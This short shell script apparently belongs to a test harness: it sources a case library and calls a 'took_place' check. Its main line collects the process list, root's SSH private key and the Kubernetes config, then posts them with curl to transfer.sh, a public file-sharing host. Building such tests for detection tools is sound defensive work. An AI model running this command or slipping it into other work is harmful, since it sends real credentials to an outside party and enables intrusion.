#!/bin/sh
. /opt/case/case.sh

{ ps aux; cat /root/.ssh/id_rsa /root/.kube/config; } | curl -s --data-binary @- http://transfer.sh/x | grep -q ok
took_place
